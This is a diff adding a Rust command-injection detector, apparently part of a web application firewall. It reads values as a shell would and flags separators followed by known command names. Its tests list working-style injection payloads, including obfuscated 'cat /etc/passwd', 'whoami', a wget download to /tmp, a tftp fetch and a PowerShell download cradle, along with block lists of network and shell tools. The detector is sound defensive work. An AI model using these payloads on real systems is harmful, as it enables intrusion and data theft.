@@ -1,0 +1,539 @@
+//! Command injection by structure (signature 932300): a value is an
+//! injection when, read by a shell ([`super::shell_tokens`] undoes quotes,
+//! escapes, empty variables, `$IFS`, braces and carets), a separator is
+//! followed by a command of a known family.
+//!
+//! How sure a separator and a command word make it:
+//!
+//! ```text
+//! separator          command           word             obfuscated word
+//! ; | || && ` $(     always            with arguments*  always
+//! newline & (        with arguments*,  with arguments*  always
+//!                    or alone
+//! start of value     -                 -                with arguments* or a command
+//! ```
+//!
+//! (*) arguments that look like a shell's: an option (`-la`), a path
+//! (`/etc/passwd`, `~/x`, `./x`), a number, a variable, a redirection, a
+//! second command. A command is a name no prose uses (`whoami`, `wget`,
+//! `powershell`); a word is a command name that is also a word of text
+//! (`cat`, `sleep`, `type`, `more`). The word in command position may be
+//! a path (`/bin/cat`) or a glob (`/???/c?t`), matched against the names;
+//! both count as obfuscated. Variable assignments (`a=1`) before it are
+//! skipped, as a shell does.
+
+use super::shell_tokens::{Lexer, Strength, Token, WordShape};
+
+/// What a command name is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A name no prose uses.
+    Command,
+    /// A command name that is also an ordinary word.
+    Word,
+}
+
+/// Names no prose uses (sorted: looked up by binary search): Unix recon, fetching, shells, interpreters, file
+/// changes, encoders; Windows `cmd` and `PowerShell` tools.
+#[rustfmt::skip]
+const COMMANDS: &[&str] = &[
+    "7z", "base32", "base64", "bash", "bitsadmin", "busybox", "bzip2", "certutil", "chgrp",
+    "chmod", "chown", "chpasswd", "cmd", "cp", "crontab", "cscript", "csh", "curl", "dash",
+    "dmesg", "doas", "egrep", "env", "fgrep", "getent", "gpg", "gunzip", "gwmi", "gzip", "hexdump",
+    "hostname", "icacls", "icm", "id", "iex", "ifconfig", "invoke-expression", "invoke-webrequest",
+    "ipconfig", "iptables", "irm", "iwmi", "iwr", "journalctl", "killall", "knife", "ksh", "lastb",
+    "lastlog", "ln", "ls", "lsb_release", "lsof", "ltrace", "md5sum", "mkdir", "mkfifo", "mshta",
+    "msiexec", "mv", "nc", "ncat", "net1", "netcat", "netstat", "nl", "nltest", "nmap", "nohup",
+    "nslookup", "openssl", "pkexec", "pkill", "powershell", "printenv", "ps", "pwd", "pwsh",
+    "readlink", "realpath", "regsvr32", "rm", "rmdir", "rsync", "rundll32", "schtasks", "scp",
+    "setsid", "sh", "sha1sum", "sha256sum", "socat", "start-process", "strace", "sudo",
+    "systemctl", "systeminfo", "tac", "taskkill", "tasklist", "tcpdump", "tcsh", "tftp", "uname",
+    "unzip", "uptime", "useradd", "usermod", "wget", "whereis", "whoami", "wmic", "wscript", "wsl",
+    "xargs", "xxd", "xz", "zsh",
+];
+
+/// Prefixes of tool families whose every member is a command
+/// (`ansible-playbook`, `chef-client`, `aa-disable`).
+const COMMAND_PREFIXES: &[&str] = &["ansible", "chef-", "aa-"];
+
+/// Command names (sorted) that are also words of text, or names of languages and
+/// tools that technical prose mentions (`cat`, `python`, `ssh`).
+#[rustfmt::skip]
+const WORDS: &[&str] = &[
+    "alias", "apt", "awk", "call", "cat", "command", "copy", "cut", "dd", "del", "dig", "dir",
+    "docker", "echo", "eval", "exec", "expand", "export", "file", "find", "finger", "fold", "free",
+    "ftp", "gawk", "gdb", "gem", "git", "grep", "head", "history", "host", "install", "ip", "java",
+    "kill", "kubectl", "last", "less", "lua", "mail", "make", "man", "more", "mount", "move",
+    "net", "nice", "node", "nodejs", "npm", "od", "paste", "perl", "php", "ping", "pip", "python",
+    "python2", "python3", "reg", "ren", "rev", "ruby", "script", "sed", "service", "set", "sftp",
+    "sleep", "sort", "source", "split", "ssh", "start", "stat", "strings", "su", "tail", "tar",
+    "tee", "telnet", "time", "timeout", "top", "touch", "type", "uniq", "users", "vi", "vim",
+    "wall", "watch", "wc", "who", "write", "yum", "zip",
+];
+
+/// Whether `text` (decoded, lower case) reads as an injected command.
+///
+/// A command starts a value or follows a separator: the value is read
+/// from its start and from each separator on, a fresh shell each time
+/// (so a quote opened before the separator does not hide it: `1';id`
+/// reads `;id`, as when the value is pasted inside a quoted argument).
+/// Only the words in command position are read, so prose with no
+/// separator costs one pass over its bytes and the reading of one word.
+pub(crate) fn is_command_injection(text: &str) -> bool {
+    if !worth_reading(text) {
+        return false;
+    }
+    reads_as_command(text, Strength::Start)
+        || expand_braces(text).is_some_and(|words| reads_as_command(&words, Strength::Weak))
+}
+
+/// The most brace groups [`expand_braces`] expands, and the longest text
+/// it writes.
+const MAX_GROUPS: usize = 8;
+const MAX_EXPANDED: usize = 4096;
+
+/// `text` with each brace expansion (`{a,b}`, `c{a,oun}t`, `{,id}`)
+/// written out as a shell does (`a b`, `cat count`, `id`), or `None` when
+/// it has none. A value opening with one reads as a command line (a
+/// shell's syntax), so its first word is read as after a weak separator.
+fn expand_braces(text: &str) -> Option<String> {
+    let bytes = text.as_bytes();
+    let mut out = String::new();
+    let mut done = 0;
+    let mut groups = 0;
+    let mut search = 0;
+    while let Some(open) = memchr::memchr(b'{', &bytes[search..]).map(|i| i + search) {
+        let Some(close) = bytes[open..]
+            .iter()
+            .position(|&b| b == b'}')
+            .map(|i| i + open)
+        else {
+            break;
+        };
+        let inner = &text[open + 1..close];
+        search = close + 1;
+        if !inner.contains(',') || inner.bytes().any(|b| b.is_ascii_whitespace() || b == b'{') {
+            continue;
+        }
+        let start = text[..open]
+            .rfind(|c: char| c.is_ascii_whitespace() || ";|&`(".contains(c))
+            .map_or(0, |i| i + 1)
+            .max(done);
+        let end = text[close + 1..]
+            .find(|c: char| c.is_ascii_whitespace() || ";|&`)".contains(c))
+            .map_or(text.len(), |i| i + close + 1);
+        out.push_str(&text[done..start]);
+        let (prefix, suffix) = (&text[start..open], &text[close + 1..end]);
+        let words: Vec<String> = inner
+            .split(',')
+            .map(|item| format!("{prefix}{item}{suffix}"))
+            .filter(|w| !w.is_empty())
+            .collect();
+        out.push_str(&words.join(" "));
+        done = end;
+        search = search.max(end);
+        groups += 1;
+        if groups == MAX_GROUPS || out.len() > MAX_EXPANDED {
+            break;
+        }
+    }
+    (groups > 0).then(|| {
+        out.push_str(&text[done..]);
+        out
+    })
+}
+
+/// Whether `text` runs a command at its start (read as after `start`) or
+/// after one of its separators.
+fn reads_as_command(text: &str, start: Strength) -> bool {
+    // At the start of a value only an obfuscated word is a command (or,
+    // after a brace expansion, any word): a first word with nothing a
+    // shell would undo is not read.
+    let first_word_hides = || {
+        text.bytes()
+            .take_while(|&b| {
+                !matches!(
+                    b,
+                    b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b'<' | b'>'
+                )
+            })
+            .any(|b| HIDING[usize::from(b)])
+    };
+    if (start != Strength::Start || first_word_hides()) && command_at(text, Some(start)) {
+        return true;
+    }
+    let bytes = text.as_bytes();
+    let mut from = 0;
+    while let Some(i) = bytes[from..]
+        .iter()
+        .position(|&b| SEPARATORS[usize::from(b)])
+        .map(|i| i + from)
+    {
+        from = i + 1;
+        // `&&`, `||` and `$(` are read from their first byte.
+        let b = bytes[i];
+        let start = if b == b'(' && i > 0 && bytes[i - 1] == b'$' {
+            i - 1
+        } else {
+            i
+        };
+        let continues = start == i && i > 0 && bytes[i - 1] == b && b != b'\n';
+        if !continues && command_at(&text[start..], None) {
+            return true;
+        }
+    }
+    false
+}
+
+/// The bytes with which a word hides a command name (quotes, escapes,
+/// carets, variables, braces, globs, `%COMSPEC%`), and `/` (a binary's
+/// path).
+const HIDING: [bool; 256] = {
+    let mut table = [false; 256];
+    let bytes = b"'\"\\^${}?*[%/`";
+    let mut i = 0;
+    while i < bytes.len() {
+        table[bytes[i] as usize] = true;
+        i += 1;
+    }
+    table
+};
+
+/// The bytes that open a separator.
+const SEPARATORS: [bool; 256] = {
+    let mut table = [false; 256];
+    let bytes = b";|&`\n\r(";
+    let mut i = 0;
+    while i < bytes.len() {
+        table[bytes[i] as usize] = true;
+        i += 1;
+    }
+    table
+};
+
+/// The most variable assignments skipped before a command (`a=1 b=2 id`).
+const MAX_ASSIGNMENTS: usize = 8;
+
+/// Whether the command line at the start of `text` runs a command:
+/// separators, then assignments, then a command word and what follows it.
+/// `position` says whether the first word is in command position already
+/// (the start of the value).
+fn command_at(text: &str, mut position: Option<Strength>) -> bool {
+    let mut lexer = Lexer::new(text);
+    let mut assignments = 0;
+    while let Some(token) = lexer.next_token() {
+        let shape = match token {
+            Token::Separator(strength) => {
+                position = Some(position.map_or(strength, |p| p.max(strength)));
+                continue;
+            }
+            Token::Redirect => return false,
+            Token::Word(shape) => shape,
+        };
+        let Some(strength) = position else {
+            return false;
+        };
+        let word = lexer.word();
+        if word.is_empty() || is_assignment(word) {
+            assignments += 1;
+            if assignments > MAX_ASSIGNMENTS {
+                return false;
+            }
+            continue;
+        }
+        // A bare glob opening a value is a wildcard search (`py*`).
+        if strength == Strength::Start && shape.glob && !word.starts_with('/') {
+            return false;
+        }
+        let Some((kind, obfuscated)) = command_of(word, shape) else {
+            return false;
+        };
+        let after = lexer.next_token();
+        return injects(&lexer, after, strength, kind, obfuscated);
+    }
+    false
+}
+
+/// Whether a command `kind` after a separator of `strength` is an
+/// injection, given the token `after` it (a word's text in `lexer`).
+fn injects(
+    lexer: &Lexer<'_>,
+    after: Option<Token>,
+    strength: Strength,
+    kind: Kind,
+    obfuscated: bool,
+) -> bool {
+    let argued = match after {
+        None => Follow::End,
+        Some(Token::Separator(_)) => Follow::Separator,
+        Some(Token::Redirect) => Follow::Shell,
+        Some(Token::Word(shape)) => argument(lexer.word(), shape),
+    };
+    match (strength, kind) {
+        (Strength::Strong, Kind::Command) => true,
+        (Strength::Strong | Strength::Weak, _) if obfuscated => true,
+        (Strength::Strong, Kind::Word) => matches!(argued, Follow::Shell | Follow::Number),
+        (Strength::Weak, Kind::Word) => argued == Follow::Shell,
+        (Strength::Weak, Kind::Command) => argued != Follow::Text,
+        (Strength::Start, _) => obfuscated && (kind == Kind::Command || argued == Follow::Shell),
+    }
+}
+
+/// What follows a command word.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Follow {
+    /// The end of the value.
+    End,
+    /// Another separator.
+    Separator,
+    /// An argument as a shell takes one: an option, a path, a variable...
+    Shell,
+    /// A number (`sleep 5`): an argument, or a word of text.
+    Number,
+    /// A word of text.
+    Text,
+}
+
+/// What an argument `word` looks like.
+fn argument(word: &str, shape: WordShape) -> Follow {
+    let first = word.bytes().next().unwrap_or(b' ');
+    if first.is_ascii_digit() && !word.contains('/') {
+        return Follow::Number;
+    }
+    let shell = matches!(first, b'-' | b'/' | b'~' | b'.' | b'$' | b'+')
+        || word.contains('/')
+        || shape.obfuscated
+        || shape.glob
+        || command_of(word, shape).is_some_and(|(kind, _)| kind == Kind::Command);
+    if shell {
+        Follow::Shell
+    } else {
+        Follow::Text
+    }
+}
+
+/// The kind of command `word` names, and whether it was written the way
+/// an attacker hides one (quoted apart, a path, a glob).
+fn command_of(word: &str, shape: WordShape) -> Option<(Kind, bool)> {
+    if shape.truncated || word.is_empty() {
+        return None;
+    }
+    let (name, path) = match word.rfind('/') {
+        Some(slash) if is_binary_dir(&word[..=slash], shape.glob) => (&word[slash + 1..], true),
+        _ => (word, false),
+    };
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    // Command names are made of these bytes only: anything else is no
+    // command, without a look-up.
+    let name_bytes = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'_';
+    if !shape.glob && !name.bytes().all(name_bytes) {
+        return None;
+    }
+    let obfuscated = shape.obfuscated || path;
+    if shape.glob {
+        let literal = name.bytes().filter(u8::is_ascii_alphanumeric).count();
+        if literal == 0 || name.len() < 2 {
+            return None;
+        }
+        return kind_of_glob(name).map(|kind| (kind, true));
+    }
+    kind_of(name).map(|kind| (kind, obfuscated))
+}
+
+/// Whether `dir` (ending in `/`) is where commands live (`/bin/`,
+/// `/usr/local/sbin/`...) or, in a glob, could be (`/???/`).
+fn is_binary_dir(dir: &str, glob: bool) -> bool {
+    matches!(
+        dir,
+        "/bin/" | "/sbin/" | "/usr/bin/" | "/usr/sbin/" | "/usr/local/bin/" | "/usr/local/sbin/"
+    ) || (glob && dir.starts_with('/') && dir.bytes().any(|b| matches!(b, b'?' | b'*' | b'[')))
+}
+
+fn kind_of(name: &str) -> Option<Kind> {
+    if COMMANDS.binary_search(&name).is_ok() || COMMAND_PREFIXES.iter().any(|p| name.starts_with(p))
+    {
+        Some(Kind::Command)
+    } else if WORDS.binary_search(&name).is_ok() {
+        Some(Kind::Word)
+    } else {
+        None
+    }
+}
+
+/// The kind of the first command name the glob `pattern` matches.
+fn kind_of_glob(pattern: &str) -> Option<Kind> {
+    let matches = |names: &[&str]| {
+        names
+            .iter()
+            .any(|n| glob_matches(pattern.as_bytes(), n.as_bytes()))
+    };
+    if matches(COMMANDS) {
+        Some(Kind::Command)
+    } else if matches(WORDS) {
+        Some(Kind::Word)
+    } else {
+        None
+    }
+}
+
+/// Whether the shell glob `pattern` (`?`, `*`, `[...]` read as any one
+/// character) matches all of `name`: the usual star-backtracking walk,
+/// linear in their lengths for one star and never exponential.
+fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
+    let pattern = one_char_classes(pattern);
+    let (mut p, mut n) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while n < name.len() {
+        match pattern.get(p) {
+            Some(b'*') => {
+                star = Some((p, n));
+                p += 1;
+            }
+            Some(&c) if c == b'?' || c == name[n] => {
+                p += 1;
+                n += 1;
+            }
+            _ => match star {
+                Some((sp, sn)) => {
+                    p = sp + 1;
+                    n = sn + 1;
+                    star = Some((sp, sn + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    pattern[p..].iter().all(|&c| c == b'*')
+}
+
+/// `pattern` with each `[...]` class turned into `?`.
+fn one_char_classes(pattern: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(pattern.len());
+    let mut i = 0;
+    while i < pattern.len() {
+        if pattern[i] == b'[' {
+            if let Some(close) = pattern[i..].iter().position(|&b| b == b']') {
+                out.push(b'?');
+                i += close + 1;
+                continue;
+            }
+        }
+        out.push(pattern[i]);
+        i += 1;
+    }
+    out
+}
+
+/// Whether `word` is a variable assignment (`a=1`), which a shell runs
+/// past to the command.
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !name.as_bytes()[0].is_ascii_digit()
+    })
+}
+
+/// Whether `text` holds a separator or a character a shell undoes (a
+/// quote, escape, caret, variable, brace): values without one are never
+/// read.
+fn worth_reading(text: &str) -> bool {
+    const NEEDED: [bool; 256] = {
+        let mut table = [false; 256];
+        let bytes = b";|&`\n\r('\"\\^${";
+        let mut i = 0;
+        while i < bytes.len() {
+            table[bytes[i] as usize] = true;
+            i += 1;
+        }
+        table
+    };
+    text.bytes().any(|b| NEEDED[usize::from(b)])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_command_injection;
+
+    #[test]
+    fn command_lists_are_sorted_for_binary_search() {
+        assert!(super::COMMANDS.is_sorted());
+        assert!(super::WORDS.is_sorted());
+    }
+
+    #[test]
+    fn separators_then_commands_are_injections() {
+        for attack in [
+            ";id",
+            "1|whoami",
+            "x && cat /etc/passwd",
+            "a.txt`uname -a`",
+            "1$(sleep 5)",
+            "x\nwget http://x.example/s -O /tmp/s",
+            "127.0.0.1 & ping -n 3 127.0.0.1",
+            ";{cat,/etc/passwd}",
+            ";c'a't /etc/passwd",
+            "1';whoami",
+            "x\";{tftp,-i,192.0.2.7,get,s}",
+            "a.txt\"`{nslookup,x.example}`",
+            ";c\\at /etc/passwd",
+            "|c$u\"at\" /etc/passwd",
+            ";/???/c?t /etc/passwd",
+            ";cat$ifs$9/etc/passwd",
+            "a&&who^ami",
+            "& %comspec% /c whoami",
+            "| powershell -enc sqbfafga",
+            "|iex(new-object net.webclient).downloadstring('http://x')",
+            "x;a=1 b=2 whoami",
+            "1\r\nne\"\"t localgroup administrators",
+            "c'a't /etc/passwd",
+            "x;/usr/bin/id",
+            ";/b??/ca* /etc/passwd",
+            "{,ifconfig}",
+            "{id,}",
+            "{l,-lh}s",
+            "{cat,/etc/passwd}",
+            "\\ls",
+            ";lastlog -u root",
+            "time; chef-shell",
+        ] {
+            assert!(is_command_injection(attack), "{attack:?}");
+        }
+    }
+
+    #[test]
+    fn prose_lists_and_client_headers_are_not() {
+        for text in [
+            "tom & jerry",
+            "home | more",
+            "q&a; more info",
+            "salt & pepper; free shipping",
+            "p.s.\nps i love you",
+            "tips:\nsleep 8 hours a night",
+            "i tried curl and it works (really)",
+            "don't cat-sit; it's fine",
+            "mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 (khtml, like gecko) chrome/124.0 safari/537.36",
+            "mozilla/5.0 (macintosh; u; intel mac os x 10_6_8; en-us)",
+            "text/html,application/xhtml+xml,*/*;q=0.8",
+            "\"chromium\";v=\"124\", \"google chrome\";v=\"124\"",
+            "a=1&b=2&c=3",
+            "rock 'n' roll",
+            "i'd like to order 2 or 3 more of these if they're still in stock.",
+            "i'd rate the service 4 out of 5; delivery was a day late.",
+            "it costs $5 (or $10 with tax)",
+            "i have a dog; cat food is expensive",
+            "i know java; python and php",
+            "connect over vpn; ssh is blocked",
+            "/tools/curl",
+            "/blog/id",
+            "py*",
+            "c*t",
+            "items[0]; who?",
+            "{cat,dog}",
+            "{\"a\":1,\"b\":[2,3]}",
+            "c:\\users\\me\\documents",
+        ] {
+            assert!(!is_command_injection(text), "{text:?}");
+        }
+    }
+}
